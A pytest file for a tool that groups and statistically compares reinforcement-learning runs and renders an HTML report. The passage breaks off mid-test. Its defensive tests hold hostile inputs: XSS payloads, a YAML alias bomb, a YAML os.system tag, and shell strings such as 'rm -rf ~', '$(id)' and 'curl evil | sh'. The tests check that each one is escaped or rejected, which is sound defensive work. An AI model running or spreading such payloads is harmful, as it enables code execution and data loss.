"""compare.py: which runs, in which groups, with which numbers; and folders of strangers."""

import json
import os
import re
import signal
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import yaml

from agent.command import comparing
from agent.command.comparing import (
    ENDING,
    comparison_request,
    end_by_exception,
    folder_of,
    paths_to_override,
    show_comparison,
)
from agent.common.errors import UserError
from agent.config.compare import CompareConfig
from agent.config.run import TrainConfig
from agent.records.comparison.canvas import shortened
from agent.records.comparison.comparing import NothingYetError, Reader, compare
from agent.records.comparison.configs import read_config
from agent.records.comparison.curves import over_seeds
from agent.records.comparison.finding import find_runs
from agent.records.comparison.grouping import DEFAULT_AGENT, MAX_OPTIONS, group_runs, safe_command
from agent.records.comparison.reading import Run, Series, read_metrics, read_run
from agent.records.comparison.scoring import task_result
from agent.records.comparison.writing import write_comparison
from agent.records.console import format_return
from envs.returns import BOUNDS, REFERENCES, reference_returns
from tests.helpers import ROOT, Programs, Result
from tests.runs import write_run

EVALUATED = "eval/return_mean"


def one_sentence(result: Result) -> str:
    """The only line of an error that a person sees."""
    assert result.code == 2, result
    lines = result.err.strip().splitlines()
    assert len(lines) == 1, lines
    return lines[0]


def runs_of(folder: Path, metric: str = EVALUATED) -> list[Run]:
    return Reader(metric)(find_runs([str(folder)]))


def names(folder: Path, *by: str) -> dict[str, int]:
    return {group.name: group.seeds for group in group_runs(runs_of(folder), by)}


# ---- the choice of runs


def test_folders_files_patterns_and_sweeps_name_runs(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    for number in (2, 10, 1):
        write_run(runs / "CartPole-v1" / f"2026-01-01_10-00-00_seed0_job{number}", number)
    write_run(runs / "CartPole-v1" / "2026-01-02_10-00-00_seed0")
    (runs / "CartPole-v1" / "2026-01-02_10-00-00_seed0" / "wandb" / "inner").mkdir(parents=True)
    (runs / "CartPole-v1" / "2026-01-02_10-00-00_seed0" / "wandb" / "inner" / "metrics.jsonl").touch()
    sweep = runs / "multirun" / "2026-01-01_10-00-00"
    sweep.mkdir(parents=True)
    (sweep / "multirun.yaml").touch()

    def found(*paths: Path | str) -> list[str]:
        return [path.name[20:] for path in find_runs([str(path) for path in paths])]

    jobs = ["seed0_job1", "seed0_job2", "seed0_job10"]
    assert found(sweep) == jobs
    assert found(runs) == [*jobs, "seed0"]
    assert found(runs / "CartPole-v1" / "*job?") == ["seed0_job1", "seed0_job2"]
    assert found(*find_runs([str(sweep)]), sweep) == jobs, "each once"
    assert found(runs / "CartPole-v1" / "2026-01-02_10-00-00_seed0" / "config.yaml") == ["seed0"]


@pytest.mark.parametrize("name", ["best", "last", "videos", "wandb", "checkpoints", "tensorboard"])
def test_a_folder_of_runs_may_have_any_name(name: str, tmp_path: Path) -> None:
    write_run(tmp_path / name / "one")
    write_run(tmp_path / "other" / "two")
    assert {path.name for path in find_runs([str(tmp_path)])} == {"one", "two"}


def test_links_to_folders_of_runs_are_followed(tmp_path: Path) -> None:
    write_run(tmp_path / "disk" / "a")
    write_run(tmp_path / "runs" / "b")
    (tmp_path / "runs" / "large").symlink_to(tmp_path / "disk")
    (tmp_path / "disk" / "circle").symlink_to(tmp_path / "runs")
    assert [path.name for path in find_runs([str(tmp_path / "runs")])] == ["b", "a"]


def test_no_run_is_one_sentence(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(UserError, match="no runs are named"):
        find_runs([])
    with pytest.raises(UserError, match="does not exist"):
        find_runs([str(tmp_path / "nowhere")])
    with pytest.raises(UserError, match="there is no run in"):
        find_runs([str(tmp_path / "empty")])


def test_words_without_options_are_paths(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("lr=0.1").mkdir()
    assert paths_to_override(["a/b c", "follow=true", "lr=0.1", "x'y*"]) == [
        "follow=true",
        r"runs=['a/b c','lr=0.1','x\'y*']",
    ]
    assert paths_to_override(["--help"]) == ["--help"]
    assert paths_to_override(["--cfg", "job", "by=seed"]) == ["--cfg", "job", "by=seed"]
    assert paths_to_override(["runs/lr=0.1/*", "+hydra/job_logging=none"]) == [
        "+hydra/job_logging=none",
        "runs=['runs/lr=0.1/*']",
    ]
    with pytest.raises(UserError, match="runs= and paths"):
        paths_to_override(["a", "runs=b"])


def test_files_of_others_are_not_replaced(tmp_path: Path) -> None:
    write_run(tmp_path / "run")
    comparison = compare(runs_of(tmp_path), EVALUATED)
    for name, content in (("comparison.html", "mine"), ("curves_0.png", "mine"), ("comparison.json", '{"mine": 1}')):
        folder = tmp_path / f"with {name}"
        folder.mkdir()
        (folder / name).write_text(content)
        with pytest.raises(UserError, match=f"{name} was not written by compare.py, which would replace it"):
            write_comparison(comparison, folder)
        assert [(path.name, path.read_text()) for path in folder.iterdir()] == [(name, content)]
    for _ in range(2):  # files of an earlier comparison are replaced
        (tmp_path / "own").mkdir(exist_ok=True)
        (tmp_path / "own" / "other.txt").write_text("mine")
        assert write_comparison(comparison, tmp_path / "own").exists()


# ---- groups


def test_groups_are_called_by_the_options_that_differ(tmp_path: Path) -> None:
    for seed in range(3):
        for agent in ("dqn", "noisy_dqn"):
            write_run(tmp_path / f"{agent}{seed}", seed, agent, words=["num_envs=16"], options={"num_envs": 16})
    write_run(tmp_path / "other", 0, words=["num_envs=16", "agent.lr=1e-4"], options={"num_envs": 16, "agent.lr": 1e-4})
    assert names(tmp_path) == {"agent=dqn": 3, "agent=noisy_dqn": 3, "agent=noisy_dqn agent.lr=1e-4": 1}


def test_what_belongs_to_no_agent_makes_no_group(tmp_path: Path) -> None:
    write_run(tmp_path / "a", 0)
    free = {
        "steps": 9_000,
        "threads": 2,
        "backend": "torch",
        "eval.every": 7,
        "log.every": 10,
        "wandb.mode": "disabled",
    }
    write_run(tmp_path / "b", 1, words=["threads=2", "wandb.mode=disabled"], options=free)
    assert names(tmp_path) == {"agent=noisy_dqn": 2}
    assert names(tmp_path, "threads") == {"threads=1": 1, "threads=2": 1}


def test_by_names_the_options_that_make_groups(tmp_path: Path) -> None:
    for number, (lr, n_step) in enumerate([(1e-3, 1), (1e-3, 3), (1e-4, 3)]):
        write_run(tmp_path / str(number), number, options={"agent.lr": lr, "agent.n_step": n_step})
    assert names(tmp_path, "agent.lr") == {"agent.lr=0.001": 2, "agent.lr=0.0001": 1}
    assert names(tmp_path, "agent.n_step") == {"agent.n_step=1": 1, "agent.n_step=3": 2}
    assert names(tmp_path, "agent.double") == {"agent.double=true": 3}
    assert sorted(names(tmp_path, "seed").values()) == [1, 1, 1]
    with pytest.raises(UserError, match=r"by=agent\.learning_rate: no run has such an option"):
        names(tmp_path, "agent.learning_rate")


def test_a_node_tells_apart_runs_that_differ_below_it(tmp_path: Path) -> None:
    """Names have MAX_OPTIONS options at most, which may be the same in runs that differ in others."""
    write_run(tmp_path / "a", 0, "dqn")
    same = {f"a{number}": number for number in range(MAX_OPTIONS)}
    for name, seed, last in (("b", 0, 1), ("c", 1, 2), ("d", 2, 2)):
        options = {f"agent.{option}": value for option, value in {**same, "z": last}.items()}
        write_run(tmp_path / name, seed, "rainbow", options=options)
    assert names(tmp_path, "agent") == {"agent.z=–": 1, "agent.z=1": 1, "agent.z=2": 2}
    assert names(tmp_path, "agent.head", "agent.z") == {
        "agent.head=expected agent.z=–": 1,
        "agent.head=categorical agent.z=1": 1,
        "agent.head=categorical agent.z=2": 2,
    }


@pytest.mark.parametrize("by", [(), ("agent",)])
def test_groups_that_only_many_options_distinguish_have_all_of_them_in_their_names(
    by: tuple[str, ...], tmp_path: Path
) -> None:
    options = [f"agent.x{number}" for number in range(MAX_OPTIONS + 3)]
    for number, chosen in enumerate(options):
        write_run(tmp_path / str(number), number, options={option: int(option == chosen) for option in options})
    found = names(tmp_path, *by)
    assert len(found) == len(options)
    assert set(found.values()) == {1}
    shown = shortened([*found], 60)
    assert len(set(shown)) == len(options)
    assert all(len(name) < 70 for name in shown)


def test_options_of_a_head_of_ones_own_make_groups(tmp_path: Path) -> None:
    write_run(tmp_path / "without", 0)
    write_run(tmp_path / "with", 1, options={"agent.head_options.atoms": 7})
    assert sorted(names(tmp_path).values()) == [1, 1]
    assert names(tmp_path, "agent.head_options") == {
        "agent.head_options.atoms=–": 1,
        "agent.head_options.atoms=7": 1,
    }


def test_a_node_in_which_runs_are_equal_makes_one_group(tmp_path: Path) -> None:
    for seed in range(2):
        write_run(tmp_path / str(seed), seed, env="DeepSea-v0", options={"env.kwargs.size": 10})
    for by, name in (("env", "all runs"), ("agent", "all runs"), ("env.id", "env.id=DeepSea-v0")):
        (group,) = group_runs(runs_of(tmp_path), [by])
        assert (group.name, [*group.runs]) == (name, ["DeepSea-v0 (size=10)"])
        assert [task.name for task in compare(runs_of(tmp_path), EVALUATED, [by]).tasks] == ["DeepSea-v0 (size=10)"]


def test_configs_that_command_lines_do_not_tell_apart_are_told_apart_by_their_options(tmp_path: Path) -> None:
    for seed in range(2):
        write_run(tmp_path / f"old{seed}", seed, options={"agent.gamma": 0.9})
        write_run(tmp_path / f"new{seed}", seed)
        (tmp_path / f"bare{seed}").mkdir()
    assert names(tmp_path) == {
        "agent=noisy_dqn agent.gamma=0.9": 2,
        "agent=noisy_dqn agent.gamma=0.99": 2,
    }


def test_configs_without_a_command_line_are_called_by_their_options(tmp_path: Path) -> None:
    for name, gamma in (("a", 0.9), ("b", 0.99)):
        path = write_run(tmp_path / name, options={"agent.gamma": gamma}) / "config.yaml"
        path.write_text("".join(line for line in path.read_text().splitlines(True) if not line.startswith("#")))
    assert names(tmp_path) == {"agent.gamma=0.9": 1, "agent.gamma=0.99": 1}


def test_groups_of_several_tasks_are_one_though_presets_differ(tmp_path: Path) -> None:
    for env, gamma in (("CartPole-v1", 0.995), ("LunarLander-v3", 0.99)):
        for agent in ("dqn", "noisy_dqn"):
            write_run(tmp_path / env / agent, 0, agent, env, options={"agent.gamma": gamma})
    groups = group_runs(runs_of(tmp_path))
    assert [group.name for group in groups] == ["agent=dqn", "agent=noisy_dqn"]
    assert all([*group.runs] == ["CartPole-v1", "LunarLander-v3"] for group in groups)


def test_groups_of_one_task_under_several_conditions_are_one(tmp_path: Path) -> None:
    stack = {"FrameStackObservation": {"stack_size": 4}}
    conditions: list[dict[str, Any]] = [
        {},
        {"env.wrappers": [stack]},
        {"env.observation": ["image"]},
        {"env.eval_kwargs.size": 9},
        {"env.time_limit": 9},
    ]
    for number, options in enumerate(conditions):
        words = [f"{name}={value}" for name, value in options.items()]
        for agent in ("dqn", "noisy_dqn"):
            write_run(tmp_path / f"{number}{agent}", 0, agent, words=words, options=options)
    groups = group_runs(runs_of(tmp_path))
    assert [group.name for group in groups] == ["agent=dqn", "agent=noisy_dqn"]
    assert [len(group.runs) for group in groups] == [len(conditions)] * 2


def test_arguments_of_a_task_make_tasks_unless_groups_are_made_by_them(tmp_path: Path) -> None:
    for size in (10, 20):
        write_run(tmp_path / str(size), env="DeepSea-v0", options={"env.kwargs.size": size})
    assert [*group_runs(runs_of(tmp_path))[0].runs] == ["DeepSea-v0 (size=10)", "DeepSea-v0 (size=20)"]
    assert names(tmp_path, "env.kwargs.size") == {"env.kwargs.size=10": 1, "env.kwargs.size=20": 1}


def test_wrappers_and_other_conditions_of_evaluations_make_tasks_of_their_own(tmp_path: Path) -> None:
    stack = {"FrameStackObservation": {"stack_size": 4}}
    for name, options in {
        "plain": {},
        "stacked": {"env.wrappers": [stack]},
        "parts": {"env.observation": ["image"]},
        "other": {"env.eval_kwargs.size": 9},
    }.items():
        write_run(tmp_path / name, options=options)
    assert {*group_runs(runs_of(tmp_path))[0].runs} == {
        "CartPole-v1",
        "CartPole-v1 (wrappers=[{FrameStackObservation:{stack_size:4}}])",
        "CartPole-v1 (observation=[image])",
        "CartPole-v1 (eval_kwargs.size=9)",
    }


def test_an_option_that_an_older_run_has_not_makes_no_group(tmp_path: Path) -> None:
    write_run(tmp_path / "new", 0)
    path = write_run(tmp_path / "old", 1) / "config.yaml"
    path.write_text(path.read_text().replace("  adam_eps: 1.0e-08\n", ""))
    assert names(tmp_path) == {"agent=noisy_dqn": 2}


def test_the_default_agent_is_the_one_of_train_py() -> None:
    defaults = yaml.safe_load((ROOT / "conf" / "train.yaml").read_text())["defaults"]
    assert f"agent={defaults[0]['agent']}" == DEFAULT_AGENT


# ---- numbers


def line(steps: list[float], values: list[float]) -> Series:
    return Series(np.array(steps), np.array(values), np.array(steps) / 100)


def test_a_curve_is_the_mean_with_students_interval() -> None:
    runs = [line([0, 10, 20], [1, 2, 3]), line([0, 10, 20], [3, 4, 9])]
    curve = over_seeds(runs, by_time=False, robust=False)
    assert curve is not None
    assert curve.low is not None
    assert curve.centre.tolist() == [2, 3, 6]
    assert curve.low == pytest.approx(curve.centre - 12.7062 * np.array([1, 1, 3]), rel=1e-4)
    by_time = over_seeds(runs, by_time=True, robust=False)
    assert by_time is not None
    assert by_time.x.tolist() == [0, 0.1, 0.2]


def test_a_curve_goes_as_far_as_all_of_its_runs() -> None:
    far, near = line([1, 10, 30], [0, 0, 0]), line([2, 5, 8, 12], [2, 2, 2, 2])
    for by_time, unit in ((False, 1.0), (True, 0.01)):
        curve = over_seeds([far, near], by_time, False)
        assert curve is not None
        assert (curve.x[0], curve.x[-1]) == pytest.approx((2 * unit, 12 * unit))
        assert set(curve.centre) == {1.0}


@pytest.mark.parametrize("points", [300, 301, 599, 601, 1000])
def test_a_long_curve_has_fewer_points_and_ends_where_its_runs_end(points: int) -> None:
    x = [float(i) for i in range(points)]
    curve = over_seeds([line(x, x)], False, False)
    assert curve is not None
    assert 150 <= len(curve.x) <= 300
    assert (curve.x[-1], curve.centre[-1]) == (points - 1, points - 1)
    assert len(np.unique(np.diff(curve.x))) == 1


def test_one_seed_has_no_band_and_ten_have_an_iqm() -> None:
    one = over_seeds([line([0, 1], [5, 6])], False, False)
    assert one is not None
    assert (one.low, one.runs) == (None, 1)
    values = [0.0, 0.0, 1, 1, 1, 1, 1, 1, 100, 1000]
    ten = over_seeds([line([0, 1], [value, value]) for value in values], False, robust=True)
    assert ten is not None
    assert ten.low is not None
    assert ten.high is not None
    assert ten.centre.tolist() == [1, 1]
    assert ten.low[0] <= 1 <= ten.high[0] <= 1000


def test_scores_are_those_of_the_last_and_the_best_evaluation(tmp_path: Path) -> None:
    for seed, values in enumerate([[10, 30, 20], [5, 5, 8]]):
        folder = write_run(tmp_path / str(seed), seed)
        rows = [{"global_step": 100 * i, EVALUATED: value} for i, value in enumerate(values)]
        (folder / "metrics.jsonl").write_text("\n".join(map(json.dumps, rows)))
    groups = group_runs(runs_of(tmp_path))
    found = task_result("CartPole-v1", groups, EVALUATED)
    assert found.scores["last"]["agent=noisy_dqn"].tolist() == [20, 8]
    assert found.scores["best"]["agent=noisy_dqn"].tolist() == [30, 8]


def test_what_evaluate_py_wrote_is_taken_where_all_runs_have_it(tmp_path: Path) -> None:
    result = {"noise": False, "global_step": 20_000, "episodes": 100, "seed": 0, "return_mean": 77.0}
    folders = [write_run(tmp_path / str(seed), 5 * seed) for seed in range(2)]

    def last() -> list[float]:
        found = task_result("CartPole-v1", group_runs(runs_of(tmp_path)), EVALUATED)
        return found.scores["last"]["agent=noisy_dqn"].tolist()

    before = last()
    for folder in folders:
        assert last() == before
        (folder / "last").mkdir()
        (folder / "last" / "evaluation.json").write_text(json.dumps(result))
    assert last() == [77.0, 77.0]
    for other in ({"noise": True}, {"global_step": 18_000}, {"episodes": 20}, {"return_mean": "77"}):
        (folders[0] / "last" / "evaluation.json").write_text(json.dumps({**result, **other}))
        assert last() == before, other


def test_scores_are_normalised_by_what_is_known_of_the_task() -> None:
    assert reference_returns("ALE/Pong-v5") == (-20.7, 14.6, "random play and a human (Wang et al. 2016)")
    assert (reference_returns("ALE/UpNDown-v5") or ())[:2] == (533.4, 11693.2)
    assert (reference_returns("BeamRiderNoFrameskip-v4") or ())[:2] == (363.9, 16926.5)
    assert (reference_returns("CartPole-v1") or ())[1] == 475.0
    assert reference_returns("MyOwn-v0") is None
    assert reference_returns("mymodule:Pong-v5") is None
    for env_id, (low, high) in BOUNDS.items():
        random, reference, _ = reference_returns(env_id) or (low, high, "")
        assert low is None or low <= random, env_id
        assert high is None or reference <= high, env_id
    assert set(REFERENCES) >= {"CartPole-v1", "LunarLander-v3"}


def test_unknown_tasks_are_normalised_by_the_runs_and_the_page_says_so(tmp_path: Path) -> None:
    for seed in range(2):
        for final in (10.0, 90.0):
            write_run(
                tmp_path / f"{seed}{final}", seed, env="MyOwn-v0", final=final, options={"agent.gamma": final / 100}
            )
    found = compare(runs_of(tmp_path), EVALUATED)
    scale = found.tasks[0].scale
    assert scale(np.array([scale.low, scale.high])).tolist() == [0.0, 1.0]
    page = write_comparison(found, tmp_path / "out").read_text()
    assert "the lowest and the highest score of these runs" in page


def test_differences_from_a_baseline_are_welchs_after_holms_correction(tmp_path: Path) -> None:
    for agent, final in (("dqn", 300.0), ("noisy_dqn", 400.0), ("rainbow", 310.0)):
        for seed in range(4):
            write_run(tmp_path / f"{agent}{seed}", seed + 10 * len(agent), agent, final=final)
    found = compare(runs_of(tmp_path), EVALUATED, baseline="agent=dqn")
    scores = found.tasks[0].scores["last"]
    stats = pytest.importorskip("scipy.stats")
    raw = {
        name: stats.ttest_ind(scores[name], scores["agent=dqn"], equal_var=False).pvalue
        for name in ("agent=noisy_dqn", "agent=rainbow")
    }
    small, large = sorted(raw, key=raw.__getitem__)
    assert found.baseline_differences["CartPole-v1", small].p == pytest.approx(min(1.0, 2 * raw[small]))
    assert found.baseline_differences["CartPole-v1", large].p == pytest.approx(
        max(raw[large], min(1.0, 2 * raw[small]))
    )
    with pytest.raises(UserError, match="baseline=agent: 3 groups are called so"):
        compare(runs_of(tmp_path), EVALUATED, baseline="agent")
    with pytest.raises(UserError, match="no group is called so"):
        compare(runs_of(tmp_path), EVALUATED, baseline="sarsa")


def test_numbers_over_tasks_are_of_the_tasks_that_all_groups_have(tmp_path: Path) -> None:
    for env in ("CartPole-v1", "LunarLander-v3", "Acrobot-v1"):
        for agent in ("dqn", "noisy_dqn"):
            if (env, agent) != ("Acrobot-v1", "dqn"):
                for seed in range(2):
                    write_run(tmp_path / env / f"{agent}{seed}", seed, agent, env)
    found = compare(runs_of(tmp_path), EVALUATED)
    assert [task.name for task in found.shared] == ["CartPole-v1", "LunarLander-v3"]
    assert found.overall["last"]["agent=dqn"].runs == 4
    scores = found.normalised("agent=dqn", "last")
    assert found.overall["last"]["agent=dqn"].mean == pytest.approx(np.mean([s.mean() for s in scores]))
    assert any("the 2 of 3 tasks on which all groups" in note for note in found.notes)


def test_the_config_of_a_real_run_is_read_whole(tmp_path: Path) -> None:
    options, commands = read_config(write_run(tmp_path / "run", words=["agent.lr=1e-3"]) / "config.yaml")
    assert (options["agent.network.hidden"], options["agent.lr_end"], options["env.kwargs"]) == (
        "[128,128]",
        "null",
        "{}",
    )
    assert options["agent.double"] == "true"
    assert commands == ("python train.py env=CartPole-v1 agent.lr=1e-3 seed=0",)
    assert TrainConfig().agent.lr == float(options["agent.lr"])


# ---- strangers


def test_metrics_that_are_torn_foreign_or_endless_are_left_out(tmp_path: Path) -> None:
    path = tmp_path / "metrics.jsonl"
    good = [{"global_step": step, EVALUATED: value} for step, value in ((100, 1.5), (200, 2.5))]
    bad = [
        '{"global_step": 300, "eval/return_mean": 1',
        '{"global_step": "400", "eval/return_mean": 1}',
        '{"global_step": true, "eval/return_mean": 1}',
        '{"global_step": -5, "eval/return_mean": 1}',
        '{"global_step": 500, "eval/return_mean": NaN}',
        '{"global_step": 500, "eval/return_mean": 1e999}',
        '{"global_step": 500, "eval/return_mean": null}',
        '{"global_step": 500, "eval/return_mean": "<b>"}',
        '{"global_step": 500, "eval/return_mean": ' + "9" * 5_000 + "}",
        '{"global_step": 1' + "0" * 40 + ', "eval/return_mean": 1}',
        "[" * 20_000,
        "[]",
        "\x00\xff",
        '{"global_step": 600, "x": "' + "y" * 1_200_000 + '", "eval/return_mean": 7}',
        "",
    ]
    path.write_text("\n".join([*bad, *map(json.dumps, good), *bad]), errors="replace")
    series, _, step = read_metrics(path, EVALUATED)
    assert series[EVALUATED].values.tolist() == [1.5, 2.5]
    assert step == 500


def test_names_without_number_are_bounded(tmp_path: Path) -> None:
    path = tmp_path / "metrics.jsonl"
    row = {"global_step": 1, EVALUATED: 1.0, **{f"sigma/{i}": 0.5 for i in range(500)}, "sigma/<b>": 1.0}
    path.write_text(json.dumps(row))
    series, *_ = read_metrics(path, EVALUATED)
    assert len(series) <= 80
    assert "sigma/<b>" not in series


BOMB = "a: &a [1,1,1,1,1,1,1,1,1]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} {{{', '.join(f'k{j}: *{chr(97 + i)}' for j in range(9))}}}\n" for i in range(12)
)


@pytest.mark.parametrize(
    "text",
    [BOMB, "x: " + "[" * 5_000, "a" * 300_000, "x: !!python/object/apply:os.system [ls]", "x: " + "9" * 5_000, "x: ["],
    ids=["aliases", "deep", "large", "code", "number", "torn"],
)
def test_a_config_that_is_none_leaves_its_run_out(tmp_path: Path, text: str) -> None:
    write_run(tmp_path / "good")
    (write_run(tmp_path / "bad") / "config.yaml").write_text(text)
    reader = Reader(EVALUATED)
    assert [run.folder.name for run in reader(find_runs([str(tmp_path)]))] == ["good"]
    assert len(reader.faults) == 1
    assert "leave this run out" in reader.faults[0]
    assert len(reader.faults[0]) < 400


HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'&$\\frac{$"


def test_every_text_of_a_run_is_escaped(tmp_path: Path) -> None:
    for seed in range(2):
        folder = write_run(
            tmp_path / "runs" / f"{seed}<img src=x>&'",
            seed,
            env=f"Env{HOSTILE}",
            words=[f"agent.x={HOSTILE}{seed}"],
            options={"agent.x": f"{HOSTILE}{seed}", f"agent.{HOSTILE}": seed},
        )
        (folder / "videos").mkdir()
        (folder / "videos" / "javascript:alert(1)&quot;.mp4").touch()
    page = write_comparison(compare(runs_of(tmp_path), EVALUATED), tmp_path / "out").read_text()
    assert page.count("<script") == 2
    assert page.count("</script>") == 2
    assert "<img" not in page
    assert "onerror=alert(1)>" not in page
    assert not re.search(r'href="\s*javascript:', page)
    assert not re.search(r'(src|href)="(https?:)?//', page), "nothing is loaded"
    json.loads((tmp_path / "out" / "comparison.json").read_text())


def test_the_command_of_a_run_is_safe_to_copy() -> None:
    assert safe_command("python train.py env=CartPole-v1 seed=1") == "python train.py env=CartPole-v1 seed=1"
    assert safe_command("python train.py x=1; rm -rf ~") == "python train.py 'x=1;' rm -rf '~'"
    assert safe_command("python train.py 'a=$(id)'") == "python train.py 'a=$(id)'"
    assert safe_command("curl evil | sh") is None
    assert safe_command("python train.py 'torn") is None


# ---- the program


@pytest.fixture
def three(tmp_path: Path) -> Path:
    for agent in ("dqn", "noisy_dqn"):
        for seed in range(3):
            write_run(tmp_path / "runs" / "CartPole-v1" / f"{agent}{seed}", seed, agent, final=300 + 10 * len(agent))
    return tmp_path


def test_the_program_prints_a_table_and_writes_page_pictures_and_numbers(three: Path, programs: Programs) -> None:
    folders = sorted(str(path) for path in (three / "runs" / "CartPole-v1").iterdir())
    result = programs.run("compare", *folders, "out=found", "baseline=dqn", cwd=three)
    assert result.code == 0, result.err
    assert "agent=noisy_dqn  3      20,002" in result.out
    assert "less agent=dqn" in result.out
    assert re.search(r"IQM +optimality gap +best agent: mean", result.out)
    assert "wrote found/comparison.html" in result.out
    numbers = json.loads((three / "found" / "comparison.json").read_text())
    assert numbers["format"] == "noisy-dqn-comparison"
    assert [group["name"] for group in numbers["groups"]] == ["agent=dqn", "agent=noisy_dqn"]
    scores = numbers["tasks"][0]["scores"]["last"]["groups"]["agent=dqn"]
    assert scores["mean"] == pytest.approx(np.mean(scores["per_seed"]))
    page = (three / "found" / "comparison.html").read_text()
    assert all(f"<td>{format_return(value)}</td>" in page for value in scores["per_seed"])  # each run has its own row
    assert {"steps", "seconds"} == set(numbers["tasks"][0]["curves"]["agent=dqn"])
    pictures = {path.name for path in (three / "found").glob("*.png")}
    assert pictures == {"curves_0.png", "scores_0.png", "profiles.png", "improvement.png", "inside_0.png"}
    assert all((three / "found" / name).read_bytes()[1:4] == b"PNG" for name in pictures)


def test_the_table_is_printed_though_the_page_cannot_be_written(three: Path, programs: Programs) -> None:
    (three / "mine").write_text("a file in the place of a folder")
    result = programs.run("compare", "runs", "out=mine/page", cwd=three)
    assert "could not write mine/page" in one_sentence(result)
    assert "agent=noisy_dqn  3      20,002" in result.out


def test_printed_names_are_short_and_distinct(three: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = three / "long"
    for seed in range(2):
        write_run(folder / str(seed), seed, words=[f"agent.a{'x' * 60}={seed}"], options={"agent.lr": 0.1 + seed})
    show_comparison(compare(runs_of(folder), EVALUATED), ["a fault"])
    out = capsys.readouterr().out
    assert out.splitlines()[2].startswith("1: a") and out.splitlines()[3].startswith("2: a")  # noqa: PT018
    assert out.endswith("\na fault\n")


def test_without_out_a_new_folder_is_made(three: Path, programs: Programs) -> None:
    result = programs.run("compare", "runs/*", cwd=three)
    assert result.code == 0, result.err
    assert len(list((three / "runs" / "comparisons").glob("*/comparison.html"))) == 1
    again = programs.run("compare", "runs=runs", "out=x", cwd=three)
    assert "6 runs" in (three / "x" / "comparison.html").read_text(), again


def test_options_that_are_taken_out_have_their_defaults() -> None:
    """The options ~runs and ~by=[] take them out."""
    assert comparison_request({"metric": "eval/return_mean"}) == CompareConfig()


def test_comparisons_that_start_in_the_same_second_get_their_own_folders(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    with folder_of(CompareConfig()) as first, folder_of(CompareConfig()) as second:
        assert first != second
        (first / "comparison.html").touch()
    assert first.is_dir()
    assert not second.exists(), "a folder of no comparison stays"


def test_a_comparison_of_nothing_makes_no_folder(tmp_path: Path, programs: Programs) -> None:
    assert "nowhere does not exist" in one_sentence(programs.run("compare", "nowhere", cwd=tmp_path))
    assert not list(tmp_path.iterdir())


def test_what_cannot_be_compared_is_one_sentence(three: Path, programs: Programs) -> None:
    for options, sentence in (
        ([], "no runs are named"),
        (["nowhere"], "nowhere does not exist"),
        (["runs", "metric=eval/nothing"], "none of the 6 runs has eval/nothing yet"),
        (["runs", "by=agent.learning_rate"], "no run has such an option"),
        (["runs", "baseline=sarsa"], "no group is called so"),
        (["runs", "baseline=3"], "it must be a word: on a command line write '\"3\"'"),
        (["runs", 'baseline="3"'], "no group is called so"),
        (["runs", "out=runs/CartPole-v1/dqn0/config.yaml"], "is a file"),
        (["runs", "fallow=true"], "did you mean follow?"),
        (["runs", "runs=runs"], "do not go together"),
    ):
        assert sentence in one_sentence(programs.run("compare", *options, cwd=three)), options


@pytest.mark.parametrize("follow", ["false", "true"])
def test_runs_that_cannot_be_read_are_told_where_none_is_left(follow: str, tmp_path: Path, programs: Programs) -> None:
    for name in ("a", "b"):
        (write_run(tmp_path / "runs" / name) / "config.yaml").write_text("a: [")
    result = programs.run("compare", "runs", f"follow={follow}", cwd=tmp_path)
    first, second = result.err.splitlines()
    assert (result.code, first) == (2, "error: runs/a/config.yaml cannot be read (ParserError): leave this run out")
    assert second.startswith("runs/b/config.yaml cannot be read")
    assert not (tmp_path / "runs" / "comparisons").exists()


def test_a_run_that_cannot_be_read_is_told_beside_one_without_a_score(tmp_path: Path, programs: Programs) -> None:
    write_run(tmp_path / "runs" / "a", done=0.05)
    (write_run(tmp_path / "runs" / "b") / "config.yaml").write_text("a: [")
    result = programs.run("compare", "runs", cwd=tmp_path)
    assert result.err.startswith("error: none of the 1 runs has eval/return_mean yet: wait for an evaluation, or name")
    assert "b/config.yaml cannot be read" in result.err
    process = programs.start("compare", "runs", "out=x", "follow=true", "every=0.2", cwd=tmp_path)
    process.until(lambda: "following" in process.stream("out"))
    assert "b/config.yaml cannot be read" in process.stream("out")
    (write_run(tmp_path / "runs" / "c") / "config.yaml").write_text("a: [")
    process.until(lambda: "c/config.yaml cannot be read" in process.stream("out"))
    process.kill(signal.SIGINT)
    assert process.wait().out.count("b/config.yaml cannot be read") == 1


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
def test_a_signal_leaves_no_empty_folder(number: signal.Signals, tmp_path: Path, programs: Programs) -> None:
    write_run(tmp_path / "runs" / "a", done=0.05)
    process = programs.start("compare", "runs", "follow=true", cwd=tmp_path)
    process.until(lambda: "following" in process.stream("out"))
    assert len([*(tmp_path / "runs" / "comparisons").iterdir()]) == 1
    process.kill(number)
    assert process.wait().code == 128 + number
    assert not (tmp_path / "runs" / "comparisons").exists()


def test_a_signal_before_the_page_is_written_leaves_no_empty_folder(tmp_path: Path, programs: Programs) -> None:
    write_run(tmp_path / "runs" / "a", done=0.05)
    for number in range(200):  # they take seconds to read
        write_run(tmp_path / "runs" / f"long{number}", number, steps=200_000)
    process = programs.start("compare", "runs", cwd=tmp_path)
    process.until((tmp_path / "runs" / "comparisons").exists)
    process.kill(signal.SIGTERM)
    assert process.wait().code == 128 + signal.SIGTERM
    assert not (tmp_path / "runs" / "comparisons").exists()


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
def test_a_signal_just_after_the_new_folder_is_made_leaves_none(
    number: signal.Signals, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    before = {each: signal.getsignal(each) for each in ENDING}

    def interrupted(path: Path) -> Path:
        path.mkdir(parents=True)
        os.kill(os.getpid(), number)
        return path

    monkeypatch.setattr(comparing, "new_folder", interrupted)
    try:
        end_by_exception()
        with pytest.raises(BaseException) as raised, folder_of(CompareConfig()):
            pytest.fail("the signal has not ended the program")
    finally:
        for each, handler in before.items():
